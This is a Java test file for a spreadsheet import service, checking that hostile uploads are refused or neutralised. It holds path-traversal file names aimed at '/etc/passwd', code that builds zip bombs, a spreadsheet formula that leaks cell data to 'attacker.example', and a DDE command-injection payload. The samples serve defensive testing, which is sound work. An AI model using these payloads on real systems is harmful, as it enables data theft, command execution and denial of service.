package dev.chl.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import dev.chl.testing.Fixtures;
import dev.chl.testing.Http;
import dev.chl.testing.ServerExtension;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tools.jackson.databind.JsonNode;

/** Uploads and workbooks made to hurt: each is refused or defused, and the store and the disk stay as they were. */
class HostileInputTest {
    @RegisterExtension
    static final ServerExtension server = ServerExtension.perClass();
    private static ExchangeClient x;
    private static String code;

    @BeforeAll
    static void library() {
        x = new ExchangeClient(server.server());
        code = Fixtures.newCategory(x.http);
        Fixtures.createExperience(x.http, code, "Something to protect");
    }

    private static Path uploads() {
        return server.server().dataDir().resolve("uploads");
    }

    private static List<Path> uploadFiles() throws IOException {
        if (!Files.isDirectory(uploads())) {
            return List.of();
        }
        try (var files = Files.list(uploads())) {
            return files.sorted().toList();
        }
    }

    private static Http.Response upload(String filename, byte[] content) {
        return x.http.upload("/api/v1/uploads", "file", filename, content);
    }

    private static void assertRefused(Http.Response r, String... detailFragments) {
        assertThat(r.status()).as("%s", r).isEqualTo(422);
        assertThat(r.isProblem()).isTrue();
        for (String fragment : detailFragments) {
            assertThat(r.json().path("detail").asString()).contains(fragment);
        }
        assertThat(r.json().path("errors").get(0).path("field").asString()).isEqualTo("file");
    }

    @Test
    void anUploadThatIsNotAZipIs422AndNothingIsKept() throws IOException {
        List<Path> before = uploadFiles();
        assertRefused(upload("library.xlsx", "id,title\nnot,a zip\n".getBytes(StandardCharsets.UTF_8)), "xlsx", "zip");
        assertRefused(upload("empty.xlsx", new byte[0]));
        assertRefused(upload("short.xlsx", new byte[] {'P', 'K'}));
        // the zip magic followed by garbage
        assertRefused(upload("broken.xlsx", new byte[] {'P', 'K', 3, 4, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10}), "zip");
        assertThat(uploadFiles()).isEqualTo(before);
    }

    @Test
    void aZipWithNeitherAWorkbookNorCsvIs422() throws IOException {
        List<Path> before = uploadFiles();
        byte[] zip = TestBook.zip(Map.of("readme.txt", "hello".getBytes(StandardCharsets.UTF_8),
                "data/sheet.json", "{}".getBytes(StandardCharsets.UTF_8)));
        assertRefused(upload("library.zip", zip), "neither");
        assertThat(uploadFiles()).isEqualTo(before);
    }

    @Test
    void anUploadReturnsItsSizeDigestAndFormat() throws Exception {
        byte[] xlsx = TestBook.standard().toXlsx();
        Http.Response r = upload("library.xlsx", xlsx);
        assertThat(r.status()).isEqualTo(201);
        JsonNode body = r.json();
        assertThat(body.path("upload_id").asString()).matches("upl-[a-z0-9]{20}");
        assertThat(body.path("filename").asString()).isEqualTo("library.xlsx");
        assertThat(body.path("size").asLong()).isEqualTo(xlsx.length);
        assertThat(body.path("sha256").asString()).isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(xlsx)));
        assertThat(body.path("format").asString()).isEqualTo("xlsx");
        assertThat(upload("library.zip", TestBook.standard().toCsvZip()).json().path("format").asString()).isEqualTo("csv");
    }

    @Test
    void aPathTraversalFileNameIsStoredSafely() throws IOException {
        Path data = server.server().dataDir();
        byte[] xlsx = TestBook.standard().toXlsx();
        for (String hostile : List.of("../../etc/x.xlsx", "..\\..\\windows\\x.xlsx", "/etc/passwd", "....//x.xlsx", "..", "a/../../b.xlsx")) {
            Http.Response r = upload(hostile, xlsx);
            assertThat(r.status()).as("%s: %s", hostile, r).isEqualTo(201);
            String shown = r.json().path("filename").asString();
            assertThat(shown).as("filename for %s", hostile).doesNotContain("/").doesNotContain("\\").isNotEqualTo("..")
                    .isNotEqualTo(".").isNotBlank();
            String id = r.json().path("upload_id").asString();
            assertThat(uploads().resolve(id + ".bin")).exists().hasBinaryContent(xlsx);
        }
        assertThat(data.getParent().resolve("etc").resolve("x.xlsx")).doesNotExist();
        assertThat(data.resolve("etc")).doesNotExist();
        assertThat(data.resolve("x.xlsx")).doesNotExist();
        assertThat(data.getParent().resolve("b.xlsx")).doesNotExist();
        // nothing but <id>.bin and <id>.json in the uploads folder, and nothing else new anywhere in the data directory
        for (Path p : uploadFiles()) {
            assertThat(p.getFileName().toString()).matches("upl-[a-z0-9]{20}\\.(bin|json)");
        }
        try (var all = Files.walk(data)) {
            assertThat(all.filter(Files::isRegularFile).map(p -> data.relativize(p).toString())
                    .filter(p -> p.endsWith(".xlsx") || p.contains("passwd")).toList()).isEmpty();
        }
    }

    @Test
    void anImportSourceIsOnlyEverAnUploadId() {
        for (String source : List.of("upload:../../etc/passwd", "upload:upl-../../x", "upload:", "file:/etc/passwd", "/tmp/x.xlsx")) {
            Http.Response r = x.http.post("/api/v1/operations/import", Map.of("source", source, "dry_run", true));
            assertThat(r.status()).as("%s: %s", source, r).isEqualTo(422);
            assertThat(r.json().path("errors").get(0).path("field").asString()).isEqualTo("source");
        }
        Http.Response missing = x.http.post("/api/v1/operations/import", Map.of("source", "upload:upl-aaaaaaaaaaaaaaaaaaaa"));
        assertThat(missing.status()).as("%s", missing).isEqualTo(404);
        assertThat(x.http.post("/api/v1/operations/import", Map.of("dry_run", true)).status()).isEqualTo(422);
        assertThat(x.http.post("/api/v1/operations/import", Map.of("source", "upload:x", "path", "/etc")).status()).isEqualTo(422);
        assertThat(x.http.post("/api/v1/operations/export", Map.of("target", "../../x")).status()).isEqualTo(422);
    }

    @Test
    void anUploadAbove50MbIs422StreamedAndLeavesNothingBehind() throws IOException {
        List<Path> before = uploadFiles();
        long size = 50L * 1024 * 1024 + 64 * 1024;
        Http.Response r = x.http.upload("/api/v1/uploads", "file", "huge.xlsx", () -> new GeneratedZipLike(size));
        assertRefused(r, "50 MB");
        assertThat(uploadFiles()).as("the partial upload is deleted").isEqualTo(before);
    }

    /** {@code size} bytes that start like a zip and go on as random noise, generated on the fly (never held in memory). */
    static final class GeneratedZipLike extends InputStream {
        private final long size;
        private final Random random = new Random(42);
        private long position;

        GeneratedZipLike(long size) {
            this.size = size;
        }

        @Override
        public int read() {
            byte[] one = new byte[1];
            return read(one, 0, 1) < 0 ? -1 : one[0] & 0xff;
        }

        @Override
        public int read(byte[] b, int off, int len) {
            if (position >= size) {
                return -1;
            }
            int n = (int) Math.min(len, size - position);
            byte[] noise = new byte[n];
            random.nextBytes(noise);
            System.arraycopy(noise, 0, b, off, n);
            for (int i = 0; i < n && position + i < 4; i++) {
                b[off + i] = new byte[] {'P', 'K', 3, 4}[(int) (position + i)];
            }
            position += n;
            return n;
        }
    }

    @Test
    void aCsvZipBombIsRefusedAndTheServerStaysHealthy() throws Exception {
        Path bomb = Files.createTempFile("bomb", ".zip");
        try {
            CsvFormatTest.writeBomb(bomb, "experiences.csv", "", 300L << 20, (byte) 0);
            String upload = x.upload("bomb.zip", Files.readAllBytes(bomb));
            Map<String, Object> before = x.snapshot();

            JsonNode job = x.runImport(upload, true);
            assertThat(job.path("status").asString()).as("%s", job).isEqualTo("failed");
            assertThat(job.path("error").asString()).contains("experiences.csv").contains("zip bomb");
            JsonNode apply = x.runImport(upload, false);
            assertThat(apply.path("status").asString()).isEqualTo("failed");
            assertThat(x.snapshot()).isEqualTo(before);
            assertThat(x.http.get("/health").status()).isEqualTo(200);
        } finally {
            Files.deleteIfExists(bomb);
        }
    }

    @Test
    void anXlsxZipBombIsRefused() throws Exception {
        // a real workbook whose Experiences sheet XML is padded with 300 MB of spaces (valid XML, compresses ~1000:1)
        Path real = Files.createTempFile("real", ".xlsx");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.ZipFile in = new java.util.zip.ZipFile(Files.write(real, TestBook.standard().toXlsx()).toFile());
             ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            for (ZipEntry e : java.util.Collections.list(in.entries())) {
                byte[] bytes = in.getInputStream(e).readAllBytes();
                zip.putNextEntry(new ZipEntry(e.getName()));
                if (e.getName().equals("xl/worksheets/sheet2.xml")) {
                    String xml = new String(bytes, StandardCharsets.UTF_8);
                    int cut = xml.indexOf("<sheetData>");
                    assertThat(cut).as("sheet xml %s", xml).isPositive();
                    zip.write(xml.substring(0, cut).getBytes(StandardCharsets.UTF_8));
                    byte[] spaces = new byte[1 << 20];
                    java.util.Arrays.fill(spaces, (byte) ' ');
                    for (int i = 0; i < 300; i++) {
                        zip.write(spaces);
                    }
                    zip.write(xml.substring(cut).getBytes(StandardCharsets.UTF_8));
                } else {
                    zip.write(bytes);
                }
                zip.closeEntry();
            }
        } finally {
            Files.deleteIfExists(real);
        }
        assertThat(out.size()).isLessThan(2 << 20);
        String upload = x.upload("bomb.xlsx", out.toByteArray());
        Map<String, Object> before = x.snapshot();
        JsonNode job = x.runImport(upload, true);
        assertThat(job.path("status").asString()).as("%s", job).isEqualTo("failed");
        assertThat(job.path("error").asString()).containsIgnoringCase("zip bomb").contains("the workbook was refused").doesNotContain("IOException");
        assertThat(x.snapshot()).isEqualTo(before);
    }

    /**
     * A formula cell is neither evaluated nor read as its text (without its "=", which OOXML does not store): each one is
     * an invalid row saying to paste the value, and nothing is imported. The row's entry is not previewed as retired.
     */
    @Test
    void formulaCellsInAnXlsxAreInvalidRowsNeverEvaluatedNorReadAsText() throws Exception {
        String published = TestBook.experienceId(code, 76);
        x.db.insertGlobalExperience(published, code, "Published, then touched in a spreadsheet", "embedded", "2025-01-01T00:00:00.000Z");
        TestBook book = TestBook.fromXlsx(x.export("xlsx"));
        int publishedRow = book.experiences().ids().indexOf(published) + 1; // 0-based, after the header
        String id = TestBook.experienceId(code, 77);
        book.experiences().add(TestBook.experienceRow(id, code, "placeholder"));
        byte[] xlsx;
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(book.toXlsx()));
             ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = wb.getSheet(Columns.EXPERIENCES);
            Row row = sheet.getRow(sheet.getLastRowNum());
            int title = Columns.EXPERIENCE.indexOf("title");
            int playbook = Columns.EXPERIENCE.indexOf("playbook");
            int context = Columns.EXPERIENCE.indexOf("context");
            // formula cells with a cached result, as a spreadsheet application saves them
            XSSFCell t = (XSSFCell) row.createCell(title);
            t.setCellFormula("CONCATENATE(\"Evaluated \",\"title\")");
            t.setCellValue("Evaluated title");
            XSSFCell p = (XSSFCell) row.createCell(playbook);
            p.setCellFormula("1+1");
            p.setCellValue("2");
            XSSFCell c = (XSSFCell) row.createCell(context);
            c.setCellFormula("HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")");
            c.setCellValue("click me");
            // the published entry's author, touched in the spreadsheet (F2, Enter) so it became a formula
            sheet.getRow(publishedRow).createCell(Columns.EXPERIENCE.indexOf("author")).setCellFormula("\"curator\"");
            wb.write(out);
            xlsx = out.toByteArray();
        }
        Map<String, Object> before = x.snapshot();
        String upload = x.upload("formulas.xlsx", xlsx);

        JsonNode preview = x.preview(upload);
        int row = book.experiences().rows().size() + 1;
        assertThat(preview.path("invalid_rows")).as("%s", preview).extracting(p -> p.path("row").asInt() + " "
                + p.path("column").asString()).containsExactlyInAnyOrder((publishedRow + 1) + " author", row + " title",
                row + " playbook", row + " context");
        preview.path("invalid_rows").forEach(p -> assertThat(p.path("reason").asString()).contains("formula")
                .contains("Paste Special → Values"));
        assertThat(ExchangeClient.texts(preview.path("retire"))).as("its row is in the sheet").doesNotContain(published);
        assertThat(x.runImport(upload, false).path("status").asString()).isEqualTo("failed");
        assertThat(x.snapshot()).isEqualTo(before);
        assertThat(x.entry(id)).isNull();
    }

    /**
     * A job's error is stored in job_history and served with every jobs refresh: however long the text it was made from
     * (here two 3,000-character file names in a refusal), it is kept to a few lines.
     */
    @Test
    void aJobsErrorIsStoredCutToAFewLines() {
        String folder = "old-copies/".repeat(300);
        byte[] experiences = "id,title\n".getBytes(StandardCharsets.UTF_8);
        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
        files.put(folder + "a/experiences.csv", experiences);
        files.put(folder + "b/experiences.csv", experiences);
        JsonNode job = x.runImport(x.upload("long names.zip", TestBook.zip(files)), true);

        assertThat(job.path("status").asString()).as("%s", job).isEqualTo("failed");
        String error = job.path("error").asString();
        assertThat(error).startsWith("file: the zip holds two files for the Experiences worksheet").endsWith("…")
                .hasSizeLessThanOrEqualTo(2_000);
        assertThat(x.db.rows("SELECT error FROM job_history WHERE job_id = ?", job.path("job_id").asString()).getFirst())
                .containsEntry("error", error);
    }

    @Test
    void aCsvThatIsNotUtf8IsRefusedWithAClearMessage() {
        TestBook book = TestBook.fromCsvZip(x.export("csv"));
        book.experiences().add(TestBook.experienceRow(TestBook.experienceId(code, 88), code, "Caf\u00e9 cr\u00e8me"));
        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
        for (TestBook.Table t : book.tables()) {
            files.put(t.name().toLowerCase(java.util.Locale.ROOT) + ".csv", TestBook.csv(t).getBytes(
                    t.name().equals(Columns.EXPERIENCES) ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8));
        }
        String upload = x.upload("latin1.zip", TestBook.zip(files));
        Map<String, Object> before = x.snapshot();
        JsonNode job = x.runImport(upload, true);
        assertThat(job.path("status").asString()).as("%s", job).isEqualTo("failed");
        assertThat(job.path("error").asString()).contains("experiences.csv").contains("not UTF-8").contains("CSV UTF-8");
        assertThat(x.runImport(upload, false).path("status").asString()).isEqualTo("failed");
        assertThat(x.snapshot()).isEqualTo(before);
    }

    @Test
    void csvExportNeutralisesFormulasAndImportRestoresThem() {
        Map<String, Object> body = Fixtures.experience(code, "=HYPERLINK(\"http://attacker.example\",\"click\")");
        body.put("playbook", "+cmd|' /C calc'!A0");
        body.put("context", "@SUM(1+1)");
        body.put("author", "-2+3");
        String id = Fixtures.create(x.http, "experiences", body).path("id").asString();

        byte[] zip = x.export("csv");
        Map<String, String> raw = TestBook.fromCsvZip(zip).experiences().entry(id);
        assertThat(raw.get("title")).isEqualTo("'=HYPERLINK(\"http://attacker.example\",\"click\")");
        assertThat(raw.get("playbook")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(raw.get("context")).isEqualTo("'@SUM(1+1)");
        assertThat(raw.get("author")).isEqualTo("'-2+3");

        JsonNode summary = x.apply(x.upload("library.zip", zip));
        assertThat(ExchangeClient.texts(summary.path("update"))).doesNotContain(id);
        Map<String, Object> stored = x.entry(id);
        assertThat(stored).containsEntry("title", "=HYPERLINK(\"http://attacker.example\",\"click\")")
                .containsEntry("playbook", "+cmd|' /C calc'!A0").containsEntry("context", "@SUM(1+1)")
                .containsEntry("author", "-2+3").containsEntry("sync_status", "synced");
    }
}
